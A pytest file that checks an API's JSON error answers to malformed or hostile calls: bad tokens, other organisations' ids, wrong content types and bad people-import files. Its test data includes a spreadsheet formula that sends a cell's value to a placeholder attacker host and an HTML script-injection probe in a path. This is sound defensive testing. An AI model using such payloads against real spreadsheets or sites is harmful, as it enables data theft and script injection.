"""The bad-input corpus of the API: each broken or hostile call with the answer it must get.

One table of calls an integration can send by mistake (a header written for another API, a
token pasted twice, a revoked token, an id of another organisation, a JSON body where a file
was expected) or an attacker on purpose, each with the status and the words of the JSON
answer: ``detail`` says what is wrong, ``errors`` each problem and where it is. No call ends
in a server error or in an HTML page, and a refused import writes nothing. docs/bad-input.md
lists the limits and the messages; the rate limit per token is in test_rate_limit.py.

Tokens (conftest.py): Acme's read and write tokens, a revoked Acme token, and Globex's read
token (another organisation). Acme and Globex have a scan each, with nothing published.
"""

from __future__ import annotations

import datetime as dt
import json
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from trustmirror.audit.models import AuditEvent
from trustmirror.orgs.models import Person, Unit

pytestmark = pytest.mark.django_db

IMPORTS = Path(__file__).parent.parent / "corpus" / "imports"
HEADER = b"name,email,language,unit,lead\n"
GOOD_ROW = b"Nina,nina@acme.test,en,Operations/Logistics/Team North,no\n"

NOT_VALID = "The request is not valid: nothing was done."
NOTHING_IMPORTED = "Nothing was imported."
NO_TOKEN_SENT = "No API token was sent. Send it in the header Authorization: Bearer <token>."
NOT_BEARER = "The Authorization header must be the word Bearer, a space and the token."
UNKNOWN = (
    "The token in the Authorization header is not known here. Check that it was copied "
    "whole; an admin of your organisation can create a new one."
)
NO_FILE = (
    "Form field file is missing: send the people file in it (for example curl -F file=@people.csv)."
)
NOT_A_FORM = (
    "Send the people file as multipart/form-data, in the form field file "
    "(for example curl -F file=@people.csv); the content type of this request is {}."
)
NO_ENDPOINT = "There is no API endpoint {}. The endpoints are listed in /api/v1/openapi.json."
UTF8_ADVICE = "Save the file as 'CSV UTF-8' and upload it again."
IMPORT = "/api/v1/people/import"


@dataclass(frozen=True)
class Call:
    """A call and its answer. ``path`` and ``auth`` may name ``{scan}`` (Acme's published
    scan), ``{globex_scan}``, and the tokens ``{read}``, ``{write}``, ``{revoked}``,
    ``{globex}``; ``auth=None`` sends no Authorization header at all."""

    id: str
    path: str = "/api/v1/units"
    method: str = "GET"
    auth: str | None = "Bearer {read}"
    corpus_file: str | None = None  # a file of tests/corpus/imports, as the form field file
    file: bytes | None = None  # or these bytes, as the form field file named `name`
    name: str = "people.csv"
    body: bytes | None = None  # or this raw body, with `content_type`
    content_type: str = ""
    headers: tuple[tuple[str, str], ...] = ()
    status: int = 200
    detail: str | None = None  # the whole detail, where the call is refused
    errors: tuple[str, ...] = ()  # exactly these errors, in this order
    says: tuple[str, ...] = ()  # parts of the detail, where it holds a size


def _write(**kwargs) -> Call:
    """An import with the write token: refused ones must leave every organisation as it was."""
    return Call(path=IMPORT, method="POST", auth="Bearer {write}", **kwargs)


CORPUS = [
    # --- the Authorization header ----------------------------------------------------------
    Call("no-header", auth=None, status=401, detail=NO_TOKEN_SENT),
    Call("empty-header", auth="", status=401, detail=NO_TOKEN_SENT),
    Call("blank-header", auth="   ", status=401, detail=NO_TOKEN_SENT),
    Call(
        "bearer-alone",
        auth="Bearer",
        status=401,
        detail="The Authorization header holds no token after Bearer.",
    ),
    Call(
        "bearer-and-a-space",
        auth="Bearer ",
        status=401,
        detail="The Authorization header holds no token after Bearer.",
    ),
    Call("bare-token", auth="{read}", status=401, detail=NOT_BEARER),
    Call("token-scheme", auth="Token {read}", status=401, detail=NOT_BEARER),
    Call("basic-scheme", auth="Basic Y2FybGE6c2VjcmV0", status=401, detail=NOT_BEARER),
    Call(
        "two-tokens",
        auth="Bearer {read} {write}",
        status=401,
        detail="The Authorization header holds more than one word after Bearer: send one token.",
    ),
    # Two Authorization headers, joined by a proxy into one.
    Call(
        "two-headers-joined",
        auth="Bearer {read}, Bearer {write}",
        status=401,
        detail="The Authorization header holds more than one word after Bearer: send one token.",
    ),
    Call("non-ascii-token", auth="Bearer tm_tökén", status=401, detail=UNKNOWN),
    Call("unknown-token", auth="Bearer tm_" + "x" * 43, status=401, detail=UNKNOWN),
    Call("not-our-prefix", auth="Bearer ghp_" + "x" * 36, status=401, detail=UNKNOWN),
    Call("token-of-5000-characters", auth="Bearer tm_" + "x" * 5000, status=401, detail=UNKNOWN),
    Call("token-with-a-nul", auth="Bearer {read}\x00", status=401, detail=UNKNOWN),
    Call(
        "revoked-token",
        auth="Bearer {revoked}",
        status=401,
        detail="The token in the Authorization header has been revoked. An admin of your "
        "organisation can create a new one.",
    ),
    # --- another organisation's objects: 404, worded as for an id that does not exist -----
    Call(
        "scan-of-another-organisation",
        path="/api/v1/scans/{globex_scan}",
        status=404,
        detail="There is no scan {globex_scan} for this token.",
    ),
    Call(
        "results-of-another-organisation",
        path="/api/v1/scans/{scan}/results",
        auth="Bearer {globex}",
        status=404,
        detail="There is no scan {scan} for this token.",
    ),
    Call(
        "participation-of-another-organisation",
        path="/api/v1/scans/{scan}/participation",
        auth="Bearer {globex}",
        status=404,
        detail="There is no scan {scan} for this token.",
    ),
    Call(
        "unknown-scan",
        path="/api/v1/scans/987654",
        status=404,
        detail="There is no scan 987654 for this token.",
    ),
    Call(
        "no-results-published",
        path="/api/v1/scans/{globex_scan}/results",
        auth="Bearer {globex}",
        status=404,
        detail="No results have been published for this scan yet.",
    ),
    Call(
        "no-participation-published",
        path="/api/v1/scans/{globex_scan}/participation",
        auth="Bearer {globex}",
        status=404,
        detail="Nothing has been published for this scan yet.",
    ),
    # --- ids in paths ------------------------------------------------------------------------
    *(
        Call(
            f"scan-id-{sent}",
            path=f"/api/v1/scans/{path}",
            status=400,
            detail=NOT_VALID,
            errors=(f"Path parameter scan_id: “{shown}” is not a whole number.",),
        )
        for sent, path, shown in [
            ("abc", "abc", "abc"),
            ("decimal", "1.5", "1.5"),
            ("exponent", "1e3", "1e3"),
            ("arabic-digit", "%D9%A3", "\u0663"),
            ("quote", "%22%3E%3Cscript%3E", '"><script>'),
        ]
    ),
    Call(
        "scan-id-zero",
        path="/api/v1/scans/0",
        status=400,
        detail=NOT_VALID,
        errors=("Path parameter scan_id: 0 is less than 1.",),
    ),
    Call(
        "scan-id-negative",
        path="/api/v1/scans/-1/results",
        status=400,
        detail=NOT_VALID,
        errors=("Path parameter scan_id: -1 is less than 1.",),
    ),
    Call(
        "scan-id-huge",
        path="/api/v1/scans/99999999999999999999999",
        status=400,
        detail=NOT_VALID,
        errors=("Path parameter scan_id: 99999999999999999999999 is more than 2147483647.",),
    ),
    Call(
        "scan-id-longer-than-shown",
        path="/api/v1/scans/" + "x" * 300,
        status=400,
        detail=NOT_VALID,
        errors=("Path parameter scan_id: “" + "x" * 40 + "…” is not a whole number.",),
    ),
    # No path takes an organisation or a unit: the token says which organisation.
    *(
        Call(f"no-endpoint-{path}", path=path, status=404, detail=NO_ENDPOINT.format(path))
        for path in [
            "/api/v1/units/5",
            "/api/v1/organisations/1/units",
            "/api/v1/scans/",
            "/api/v1/",
            "/api/v2/units",
        ]
    ),
    Call(
        "wrong-method",
        path="/api/v1/units",
        method="POST",
        status=405,
        detail="/api/v1/units does not take POST; it takes GET.",
    ),
    Call(
        "delete-a-scan",
        path="/api/v1/scans/{scan}",
        method="DELETE",
        auth="Bearer {write}",
        status=405,
        detail="/api/v1/scans/{scan} does not take DELETE; it takes GET.",
    ),
    Call(
        "import-by-get",
        path=IMPORT,
        auth="Bearer {write}",
        status=405,
        detail="/api/v1/people/import does not take GET; it takes POST.",
    ),
    # --- query parameters --------------------------------------------------------------------
    *(
        Call(
            f"lang-{sent}",
            path="/api/v1/scans/{scan}/results?lang=" + sent,
            status=400,
            detail=NOT_VALID,
            errors=(f"Query parameter lang: “{shown}” is not one of en, nl.",),
        )
        for sent, shown in [
            ("de", "de"),
            ("", ""),
            ("EN", "EN"),
            ("1", "1"),
            ("-1", "-1"),
            ("en%00", "en\x00"),
            ("x" * 5000, "x" * 40 + "…"),
        ]
    ),
    # --- people import -------------------------------------------------------------------
    Call(
        "import-with-a-read-token",
        path=IMPORT,
        method="POST",
        file=HEADER + GOOD_ROW,
        status=403,
        detail="This token may only read: importing needs a write token.",
    ),
    _write(
        id="json-body",
        body=json.dumps({"people": [{"name": "Nina", "email": "nina@acme.test"}]}).encode(),
        content_type="application/json",
        status=415,
        detail=NOT_A_FORM.format("application/json"),
    ),
    _write(
        id="json-list-of-people",
        body=b'[["name","email"],["Nina","nina@acme.test"]]',
        content_type="application/json",
        status=415,
        detail=NOT_A_FORM.format("application/json"),
    ),
    _write(
        id="json-that-is-broken",
        body=b'{"people": [',
        content_type="application/json",
        status=415,
        detail=NOT_A_FORM.format("application/json"),
    ),
    _write(
        id="csv-as-the-body",
        body=HEADER + GOOD_ROW,
        content_type="text/csv",
        status=415,
        detail=NOT_A_FORM.format("text/csv"),
    ),
    _write(
        id="url-encoded-form",
        body=b"file=name%2Cemail",
        content_type="application/x-www-form-urlencoded",
        status=415,
        detail=NOT_A_FORM.format("application/x-www-form-urlencoded"),
    ),
    _write(
        id="empty-body",
        body=b"",
        status=415,
        detail="Send the people file as multipart/form-data, in the form field file "
        "(for example curl -F file=@people.csv); this request has no content type.",
    ),
    _write(
        id="empty-multipart",
        body=b"--x--\r\n",
        content_type="multipart/form-data; boundary=x",
        status=400,
        detail=NOT_VALID,
        errors=(NO_FILE,),
    ),
    _write(
        id="multipart-without-a-boundary",
        body=b"abc",
        content_type="multipart/form-data",
        status=400,
        detail=NOT_VALID,
        errors=("The body is not a form that can be read: send multipart/form-data.",),
    ),
    _write(
        id="file-as-a-text-field",
        body=b'--x\r\nContent-Disposition: form-data; name="file"\r\n\r\n'
        + HEADER
        + GOOD_ROW
        + b"\r\n--x--\r\n",
        content_type="multipart/form-data; boundary=x",
        status=400,
        detail=NOT_VALID,
        errors=(NO_FILE,),
    ),
    _write(
        id="two-files",
        body=b"".join(
            b'--x\r\nContent-Disposition: form-data; name="file"; filename="p%d.csv"\r\n\r\n' % n
            + HEADER
            + GOOD_ROW
            + b"\r\n"
            for n in (1, 2)
        )
        + b"--x--\r\n",
        content_type="multipart/form-data; boundary=x",
        status=400,
        detail=NOT_VALID,
        errors=("Send one file only: the people file, in the form field file.",),
    ),
    _write(
        id="empty-file",
        file=b"",
        status=400,
        detail=NOTHING_IMPORTED,
        errors=("The file is empty.",),
    ),
    _write(
        id="header-only",
        corpus_file="header-only.csv",
        status=400,
        detail=NOTHING_IMPORTED,
        errors=("The file has a header but no people.",),
    ),
    _write(
        id="windows-1252",
        corpus_file="windows-1252-semicolons.csv",
        status=400,
        detail=NOTHING_IMPORTED,
        errors=(f"Line 3 is not valid UTF-8 text. {UTF8_ADVICE}",),
    ),
    _write(
        id="utf-16",
        corpus_file="utf-16-unicode-text.txt",
        status=400,
        detail=NOTHING_IMPORTED,
        errors=(
            "The file is saved as UTF-16 (Unicode text). "
            "Save it as 'CSV UTF-8' and upload it again.",
        ),
    ),
    _write(
        id="missing-columns",
        corpus_file="missing-columns.csv",
        status=400,
        detail=NOTHING_IMPORTED,
        errors=(
            "Line 1: the header misses the columns language, lead. "
            "Expected: name, email, language, unit, lead.",
        ),
    ),
    _write(
        id="duplicate-emails",
        corpus_file="duplicate-emails.csv",
        status=400,
        detail=NOTHING_IMPORTED,
        errors=("Line 4: the e-mail anna@zorg.test is also on line 2.",),
    ),
    _write(
        id="formula-cells",
        corpus_file="formulas.csv",
        status=400,
        detail=NOTHING_IMPORTED,
        errors=(
            'Line 3: the name column holds a formula, =HYPERLINK("http://evil.example/?x="&B2…; '
            "put the value itself in the cell.",
            'Line 4: the unit column holds a formula, =A1&"/Noord"; '
            "put the value itself in the cell.",
        ),
    ),
    _write(
        id="one-bad-row-of-two",
        file=HEADER + GOOD_ROW + b"Otto,,nl,Finance/Team West,no\n",
        status=400,
        detail=NOTHING_IMPORTED,
        errors=("Line 3: '' is not an e-mail address.",),
    ),
    _write(
        id="pdf",
        corpus_file="people.pdf",
        status=400,
        detail=NOTHING_IMPORTED,
        errors=("Upload a .csv or .xlsx file; people.pdf is neither.",),
    ),
    _write(
        id="no-extension",
        file=HEADER + GOOD_ROW,
        name="people",
        status=400,
        detail=NOTHING_IMPORTED,
        errors=("Upload a .csv or .xlsx file; people is neither.",),
    ),
    _write(
        id="csv-named-xlsx",
        file=HEADER + GOOD_ROW,
        name="people.xlsx",
        status=400,
        detail=NOTHING_IMPORTED,
        errors=("The file is not a readable .xlsx workbook.",),
    ),
]


@pytest.fixture
def world(acme, tokens):
    """The values a call may name: a scan of Acme's and one of Globex's.

    Nothing is published: no refusal here depends on it, and publishing for each of the
    corpus's cases would cost a second each.
    """
    from trustmirror.surveys.services import scan_create

    def scan(organisation, name):
        return scan_create(
            organisation=organisation,
            name=name,
            opens_on=dt.date(2026, 10, 1),
            closes_on=dt.date(2026, 10, 31),
        ).pk

    return {**tokens, "scan": scan(acme.org, "Acme scan"), "globex_scan": scan(acme.globex, "G")}


def _state() -> tuple[int, int, int]:
    """What a refused import must not change: people, units and import records, all orgs."""
    return (
        Person.objects.count(),
        Unit.objects.count(),
        AuditEvent.objects.filter(action=AuditEvent.IMPORT_PEOPLE).count(),
    )


def _send(client, call: Call, world: dict):
    path = call.path.format(**world)
    extra = {f"HTTP_{name.upper().replace('-', '_')}": value for name, value in call.headers}
    if call.auth is not None:
        extra["HTTP_AUTHORIZATION"] = call.auth.format(**world)
    if call.corpus_file is not None or call.file is not None:
        if call.corpus_file is not None:
            name, content = call.corpus_file, (IMPORTS / call.corpus_file).read_bytes()
        else:
            name, content = call.name, call.file
        return client.post(path, {"file": SimpleUploadedFile(name, content)}, **extra)
    return client.generic(
        call.method, path, call.body or b"", content_type=call.content_type, **extra
    )


def test_every_case_has_its_own_id():
    ids = [call.id for call in CORPUS]
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize("call", CORPUS, ids=lambda call: call.id)
def test_a_bad_call_gets_its_answer_in_json_and_changes_nothing(client, world, call):
    before = _state()
    response = _send(client, call, world)
    assert response.status_code == call.status, response.content
    assert response["Content-Type"].startswith("application/json"), response["Content-Type"]
    body = response.json()
    if call.detail is not None:
        assert body["detail"] == call.detail.format(**world)
    for words in call.says:
        assert words in body["detail"]
    assert body.get("errors", []) == list(call.errors)
    assert _state() == before, "a refused call wrote something"


@pytest.mark.parametrize(
    ("auth", "challenge"),
    [
        (None, 'Bearer realm="trustmirror"'),
        ("Token {read}", 'Bearer realm="trustmirror"'),
        ("Bearer {revoked}", 'Bearer realm="trustmirror", error="invalid_token"'),
        ("Bearer tm_nope", 'Bearer realm="trustmirror", error="invalid_token"'),
    ],
)
def test_a_refused_token_is_told_how_to_authenticate(client, world, auth, challenge):
    """RFC 6750: a 401 names the scheme, and ``invalid_token`` where a token was sent."""
    headers = {} if auth is None else {"HTTP_AUTHORIZATION": auth.format(**world)}
    response = client.get("/api/v1/units", **headers)
    assert response.status_code == 401
    assert response["WWW-Authenticate"] == challenge


def test_another_organisations_scan_reads_exactly_as_one_that_does_not_exist(client, world):
    """Nothing in the answer tells a Globex scan from a free id: not status, not words."""
    headers = {"HTTP_AUTHORIZATION": f"Bearer {world['read']}"}
    missing = 987_654
    for suffix in ("", "/participation", "/results"):
        theirs = client.get(f"/api/v1/scans/{world['globex_scan']}{suffix}", **headers)
        nobodys = client.get(f"/api/v1/scans/{missing}{suffix}", **headers)
        assert theirs.status_code == nobodys.status_code == 404
        assert theirs.content.replace(str(world["globex_scan"]).encode(), b"N") == (
            nobodys.content.replace(str(missing).encode(), b"N")
        )


def test_header_forms_that_are_accepted(client, world):
    """The scheme in any capitals and more than one space, as RFC 6750 and 9110 allow."""
    for auth in ("bearer {read}", "BEARER {read}", "Bearer   {read}", " Bearer {read} "):
        response = client.get("/api/v1/units", HTTP_AUTHORIZATION=auth.format(**world))
        assert response.status_code == 200, auth


def test_unknown_query_parameters_are_ignored_and_the_answer_says_its_language(
    client, scan, tokens
):
    """A misspelt ``?language=nl`` gets the organisation's language, which the answer names;
    of ``lang`` given twice the last counts (as Django reads a query)."""
    headers = {"HTTP_AUTHORIZATION": f"Bearer {tokens['read']}"}
    url = f"/api/v1/scans/{scan.pk}/results"
    assert client.get(url + "?language=nl&page=-1", **headers).json()["language"] == "en"
    assert client.get(url + "?lang=nl&lang=en", **headers).json()["language"] == "en"


# --- sizes: the body limits, and the import's own limit between them --------------------------


def _multipart(content: bytes) -> tuple[bytes, str]:
    boundary = "BoUnDaRy"
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="people.csv"'
            "\r\nContent-Type: text/csv\r\n\r\n"
        ).encode()
        + content
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return body, f"multipart/form-data; boundary={boundary}"


def _import_of(client, token: str, content: bytes):
    body, content_type = _multipart(content)
    headers = {"HTTP_AUTHORIZATION": f"Bearer {token}"} if token else {}
    return client.generic("POST", IMPORT, body, content_type=content_type, **headers)


def test_a_body_over_11_mb_is_refused_unread_even_with_a_write_token(client, world):
    before = _state()
    content = HEADER + GOOD_ROW * (12 * 1024 * 1024 // len(GOOD_ROW))
    response = _import_of(client, world["write"], content)
    assert response.status_code == 413
    assert response.json() == {
        "detail": "The request is 12.0 MB; a request to the API may be at most 11.0 MB, "
        "and a people file at most 10.0 MB."
    }
    assert _state() == before


def test_a_file_between_10_and_11_mb_is_refused_by_the_import(client, world):
    before = _state()
    content = HEADER + b"\n" * (10 * 1024 * 1024 + 512 * 1024)
    response = _import_of(client, world["write"], content)
    assert response.status_code == 400
    assert response.json() == {
        "detail": NOTHING_IMPORTED,
        "errors": [
            "The file is 10.5 MB; a people file may be at most 10 MB. "
            "Save only the list of people, or split it into several files."
        ],
    }
    assert _state() == before


@pytest.mark.parametrize("who", ["read", "revoked", "globex", "unknown", "none"])
def test_over_128_kb_needs_a_valid_write_token(client, world, who):
    """Before the token is even asked for its scope, the body is refused by its size alone."""
    token = {**world, "unknown": "tm_" + "x" * 43, "none": ""}[who]
    before = _state()
    content = HEADER + GOOD_ROW * (200 * 1024 // len(GOOD_ROW))
    response = _import_of(client, token, content)
    assert response.status_code == 413
    detail = response.json()["detail"]
    assert detail.startswith("The request is 200.")
    assert detail.endswith(
        "; without a valid write token a request may be at most 128.0 KB. "
        "Importing people needs a write token."
    )
    assert _state() == before


# --- the reader's language ----------------------------------------------------------------


def test_a_refused_import_speaks_dutch_to_a_dutch_client(client, world):
    before = _state()
    response = client.post(
        IMPORT,
        {"file": SimpleUploadedFile("p.csv", (IMPORTS / "duplicate-emails.csv").read_bytes())},
        HTTP_AUTHORIZATION=f"Bearer {world['write']}",
        HTTP_ACCEPT_LANGUAGE="nl",
    )
    assert response.status_code == 400
    assert response.json() == {
        "detail": "Er is niets geïmporteerd.",
        "errors": ["Regel 4: het e-mailadres anna@zorg.test staat ook op regel 2."],
    }
    assert _state() == before


# --- no server error, and no HTML, whatever the server itself fails on ----------------------


def test_a_server_error_under_the_api_is_json_and_leaves_no_import_behind(
    client, world, monkeypatch
):
    """The import is written, then recording it fails: the people go too, and the answer is
    JSON, not the 500 page."""
    from trustmirror.api import endpoints

    def broken(*args, **kwargs):
        raise RuntimeError("the disk is full")

    monkeypatch.setattr(endpoints, "audit_record", broken)
    client.raise_request_exception = False
    before = _state()
    response = _import_of(client, world["write"], HEADER + GOOD_ROW)
    assert response.status_code == 500
    assert response["Content-Type"].startswith("application/json")
    assert response.json() == {
        "detail": "An unexpected error occurred. Nothing was half-saved; please try again."
    }
    assert _state() == before
